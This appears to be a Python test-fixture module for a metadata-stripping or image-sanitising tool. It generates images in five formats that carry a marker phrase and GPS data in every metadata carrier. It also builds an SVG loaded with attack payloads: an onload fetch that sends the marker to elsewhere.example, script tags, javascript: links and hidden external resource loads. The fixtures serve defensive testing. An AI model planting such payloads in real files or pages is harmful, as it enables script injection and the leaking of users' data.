"""Pictures that tell: every carrier of metadata that is known of each format, with the same words planted in it."""

from __future__ import annotations

import base64
import io
import struct
import zlib
from typing import Any

from PIL import Image, ImageCms

MARK = b"Ardverikie Terrace 7"
LATITUDE, LONGITUDE = (55.0, 57.0, 12.0), (3.0, 11.0, 18.0)
XMP = (
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    b'<rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="55,57.2N">'
    + MARK
    + b"</rdf:Description></rdf:RDF></x:xmpmeta>"
)
SRGB = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
LOUD = Image.effect_mandelbrot((60, 40), (-2, -1.5, 1, 1.5), 40).convert("RGB")
CLEAR = LOUD.convert("RGBA")
CLEAR.putalpha(Image.linear_gradient("L").resize(LOUD.size))
FRAMES = [LOUD.rotate(90 * turn) for turn in range(3)]


def exif(turn: int = 1, *, place: bool = True) -> Image.Exif:
    exif = Image.Exif()
    exif[0x010E] = MARK.decode()
    exif[0x0112] = turn
    if place:
        gps = exif.get_ifd(0x8825)
        gps[1], gps[2], gps[3], gps[4] = "N", LATITUDE, "W", LONGITUDE
    return exif


def saved(kind: str, picture: Image.Image = LOUD, **how: Any) -> bytes:
    stream = io.BytesIO()
    picture.save(stream, kind, **how)
    return stream.getvalue()


PLAIN_FILES = {kind: saved(kind) for kind in ("JPEG", "PNG", "GIF", "AVIF")}
PLAIN_FILES["WEBP"] = saved("WEBP", CLEAR, exif=exif())


def segment(mark: int, content: bytes) -> bytes:
    """Return a segment of a JPEG."""
    return bytes((0xFF, mark)) + struct.pack(">H", len(content) + 2) + content


def with_segments(*segments: bytes, base: bytes = b"") -> bytes:
    """Return a JPEG with segments behind its first two bytes."""
    base = base or PLAIN_FILES["JPEG"]
    return base[:2] + b"".join(segments) + base[2:]


def chunk(kind: bytes, content: bytes) -> bytes:
    """Return a chunk of a PNG."""
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def with_chunks(*chunks: bytes, base: bytes = b"") -> bytes:
    """Return a PNG with chunks behind its header."""
    base = base or PLAIN_FILES["PNG"]
    return base[:33] + b"".join(chunks) + base[33:]


def riff_chunk(kind: bytes, content: bytes) -> bytes:
    return kind + struct.pack("<I", len(content)) + content + b"\0" * (len(content) % 2)


def with_riff_chunks(*chunks: bytes, base: bytes = b"") -> bytes:
    """Return a WebP with chunks behind those that it has."""
    base = base or PLAIN_FILES["WEBP"]
    content = base[12:] + b"".join(chunks)
    return b"RIFF" + struct.pack("<I", len(content) + 4) + b"WEBP" + content


def with_blocks(*blocks: bytes, base: bytes = b"") -> bytes:
    """Return a GIF with extensions before its end."""
    base = base or PLAIN_FILES["GIF"]
    return base[:-1] + b"".join(blocks) + base[-1:]


def box(kind: bytes, content: bytes) -> bytes:
    """Return a box of an AVIF."""
    return struct.pack(">I", len(content) + 8) + kind + content


def grid_of_frames(kind: str, **how: Any) -> bytes:
    return saved(kind, FRAMES[0], save_all=True, append_images=FRAMES[1:], duration=40, **how)


THUMBNAIL = saved("JPEG", Image.new("RGB", (16, 12), (250, 0, 250)), comment=MARK)
PHOTOSHOP = b"Photoshop 3.0\x008BIM\x04\x04\0\0" + struct.pack(">I", len(MARK) + 5) + b"\x1c\x02\x5a\0\x14" + MARK
EXIF = exif().tobytes()
PLAIN = exif().tobytes().removeprefix(b"Exif\0\0")

_ANIMATED_WEBP = grid_of_frames("WEBP", exif=exif(), xmp=XMP)
_FRAME = _ANIMATED_WEBP.index(b"ANMF")
_FRAME_END = _FRAME + 8 + int.from_bytes(_ANIMATED_WEBP[_FRAME + 4 : _FRAME + 8], "little")


def _talking_frame() -> bytes:
    """Return a WebP that moves, with an unknown chunk in its first frame."""
    frame = _ANIMATED_WEBP[_FRAME + 8 : _FRAME_END] + riff_chunk(b"note", MARK)
    chunks = _ANIMATED_WEBP[12:_FRAME] + riff_chunk(b"ANMF", frame) + _ANIMATED_WEBP[_FRAME_END:]
    return b"RIFF" + struct.pack("<I", len(chunks) + 4) + b"WEBP" + chunks


RASTER: dict[str, bytes] = {
    "exif.jpg": saved("JPEG", exif=exif(), icc_profile=SRGB),
    "xmp.jpg": saved("JPEG", xmp=XMP),
    "comment.jpg": saved("JPEG", comment=MARK),
    "progressive.jpg": saved("JPEG", exif=exif(), comment=MARK, progressive=True),
    "restarts.jpg": saved("JPEG", exif=exif(), comment=MARK, restart_marker_blocks=1),
    "print.jpg": saved("JPEG", LOUD.convert("CMYK"), exif=exif(), comment=MARK),
    "jfif-thumbnail.jpg": with_segments(
        segment(0xE0, b"JFIF\0\1\2\0\0\1\0\1\7\1" + MARK + b"x"), base=b"\xff\xd8" + saved("JPEG")[20:]
    ),
    "jfxx-thumbnail.jpg": with_segments(segment(0xE0, b"JFXX\0\x10" + THUMBNAIL)),
    "photoshop.jpg": with_segments(segment(0xED, PHOTOSHOP)),
    "adobe.jpg": with_segments(segment(0xEE, b"Adobe\0\x64\0\0\0\0\1" + MARK)),
    "ducky.jpg": with_segments(segment(0xEC, b"Ducky" + MARK)),
    "flashpix.jpg": with_segments(segment(0xE2, b"FPXR\0" + MARK)),
    "multi-picture.jpg": with_segments(segment(0xE2, b"MPF\0" + MARK)) + THUMBNAIL,
    "content-credentials.jpg": with_segments(segment(0xEB, b"JP\0\1\0\0\0\1" + MARK)),
    "all-applications.jpg": with_segments(*(segment(mark, MARK) for mark in range(0xE0, 0xF0))),
    "reserved.jpg": with_segments(*(segment(mark, MARK) for mark in (0x02, 0xBF, 0xDE, 0xDF, 0xF0, 0xFD, 0xC8))),
    "behind.jpg": saved("JPEG") + b"\0\0\0\x18ftypmp42" + MARK,
    "two-starts.jpg": b"\xff\xd8" + with_segments(segment(0xFE, MARK)),
    "gap.jpg": with_segments(segment(0xFE, MARK) + b"\0\0" + segment(0xFE, MARK)),
    "fill.jpg": with_segments(b"\xff\xff" + segment(0xFE, MARK)),
    "two-exif.jpg": with_segments(segment(0xE1, EXIF), segment(0xE1, exif(6).tobytes())),
    "turned.jpg": saved("JPEG", exif=exif(6)),
    "depth.jpg": saved("MPO", save_all=True, append_images=[FRAMES[1]], exif=exif(8), comment=MARK),
    "text.png": with_chunks(chunk(b"tEXt", b"Comment\0" + MARK)),
    "compressed.png": with_chunks(chunk(b"zTXt", b"Comment\0\0" + zlib.compress(MARK))),
    "international.png": with_chunks(chunk(b"iTXt", b"XML:com.adobe.xmp\0\1\0\0\0" + zlib.compress(XMP))),
    "exif.png": saved("PNG", exif=exif(), icc_profile=SRGB, dpi=(72, 72)),
    "turned.png": saved("PNG", exif=exif(6)),
    "palette-name.png": with_chunks(chunk(b"sPLT", MARK + b"\0\x08\1\2\3\4\0\1")),
    "time.png": with_chunks(chunk(b"tIME", b"\x07\xea\x0b\x1e\x10\0\0"), chunk(b"tEXt", b"Author\0" + MARK)),
    "raw-profile.png": with_chunks(
        chunk(b"zTXt", b"Raw profile type exif\0\0" + zlib.compress(b"\nexif\n  40\n" + PLAIN.hex().encode()))
    ),
    "private.png": with_chunks(chunk(b"prVt", MARK), chunk(b"caBX", MARK), chunk(b"vpAg", MARK)),
    "behind.png": saved("PNG") + MARK,
    "moving.png": with_chunks(chunk(b"tEXt", b"Comment\0" + MARK), base=grid_of_frames("PNG")),
    "exif.webp": saved("WEBP", exif=exif(), xmp=XMP, icc_profile=SRGB),
    "turned.webp": saved("WEBP", exif=exif(6), xmp=XMP),
    "lossless.webp": saved("WEBP", CLEAR, exif=exif(), xmp=XMP, lossless=True),
    "unknown.webp": with_riff_chunks(riff_chunk(b"note", MARK)),
    "behind.webp": saved("WEBP", exif=exif()) + MARK,
    "moving.webp": _talking_frame(),
    "comment.gif": saved("GIF", comment=MARK),
    "application.gif": with_blocks(b"!\xff\x0bXMP DataXMP" + bytes([len(MARK)]) + MARK + b"\0"),
    "loop.gif": with_blocks(
        b"!\xff\x0bNETSCAPE2.0\3\1\0\0" + bytes([len(MARK)]) + MARK + b"\0", base=grid_of_frames("GIF", loop=0)
    ),
    "text.gif": with_blocks(b"!\1\x0c" + bytes(12) + bytes([len(MARK)]) + MARK + b"\0"),
    "behind.gif": saved("GIF") + MARK,
    "moving.gif": grid_of_frames("GIF", comment=MARK, loop=3),
    "exif.avif": saved("AVIF", CLEAR, exif=exif(), xmp=XMP, icc_profile=SRGB),
    "turned.avif": saved("AVIF", exif=exif(6), xmp=XMP),
    "boxes.avif": PLAIN_FILES["AVIF"] + box(b"uuid", bytes(16) + MARK) + box(b"free", MARK) + box(b"skip", MARK) + MARK,
    "moving.avif": grid_of_frames("AVIF", exif=exif(), xmp=XMP) + MARK,
}
"""Name → content. What a browser shows of each is the same without what it tells."""

_EMBEDDED = base64.b64encode(RASTER["exif.jpg"]).decode()
DRAWING = f"""\
<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<?xml-stylesheet href="https://elsewhere.example/{MARK.decode()}.css"?>
<!-- {MARK.decode()} -->
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [
  <!ENTITY ns_ai "http://ns.adobe.com/AdobeIllustrator/10.0/">
  <!ENTITY colour "teal">
]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:i="&ns_ai;"
     xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"
     xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" inkscape:export-filename="/home/{MARK.decode()}/a.png"
     sodipodi:docname="{MARK.decode()}.svg" data-name="{MARK.decode()}" width="120" height="80" viewBox="0 0 120 80"
     onload="fetch('https://elsewhere.example/{MARK.decode()}')">
  <title>A lamp &amp; a table</title>
  <metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">{MARK.decode()}</rdf:RDF></metadata>
  <sodipodi:namedview inkscape:document-units="px"><inkscape:grid type="{MARK.decode()}"/></sodipodi:namedview>
  <style>@import url(https://elsewhere.example/a.css); /* {MARK.decode()} */
    @font-face {{ font-family: F; src: url(https://elsewhere.example/f.woff) }}
    .a > .b, .a {{ fill: url(#g); stroke: &colour;; stroke-width: 1-0; background: \\75rl(//elsewhere.example/x) }}
    @media (min-width: 1px) {{ .c {{ opacity: .5; cursor: image-set("https://elsewhere.example/x" 1x) }} }}</style>
  <script>alert("{MARK.decode()}")</script>
  <script xlink:href="https://elsewhere.example/a.js"/>
  <defs>
    <linearGradient id="g" gradientTransform="rotate(45)"><stop stop-color="#e33"/><stop offset="1"
      stop-color="#33e"/></linearGradient>
    <linearGradient id="h" xlink:href="#g"/>
    <clipPath id="c"><circle cx="30" cy="40" r="25"/></clipPath>
    <filter id="f"><feGaussianBlur stdDeviation="1.5"/><feImage href="https://elsewhere.example/i.png"/></filter>
    <path id="p" d="M0 0l10-5 5,5z"/>
    <pattern id="q" width="8" height="8" patternUnits="userSpaceOnUse"><path d="M0 0h4v4z" fill="#0a0"/></pattern>
  </defs>
  <switch><foreignObject requiredExtensions="&ns_ai;" width="9" height="9"><p xmlns="http://www.w3.org/1999/xhtml">{MARK.decode()}</p></foreignObject>
    <g i:extraneous="self"><rect class="a" width="60" height="80" clip-path="url(#c)" onclick="alert(1)"/></g></switch>
  <use xlink:href="#p" x="70" y="20" fill="url('#h')"/>
  <use href="https://elsewhere.example/sprite.svg#x"/>
  <rect x="60" y="40" width="30" height="30"
    style="fill: url(#q); mask: url(https://elsewhere.example/m.svg#m); stroke:#000"/>
  <image x="95" y="5" width="20" height="20" xlink:href="data:image/jpeg;base64,{_EMBEDDED}"/>
  <image width="20" height="20" href="https://elsewhere.example/{MARK.decode()}.png"/>
  <a href="javascript:alert(1)"><text x="5" y="75" xml:space="preserve">Tea  <tspan
    font-weight="bold">&lt;for</tspan> two</text></a>
  <circle r="5" cx="110" cy="70" filter="url(#f)"><animate attributeName="r" values="5;6;5" dur="9s" begin="99s"/>
    <set attributeName="href" to="javascript:alert(1)"/></circle>
</svg>
"""
"""What programs and people put into a drawing, and what attackers do."""
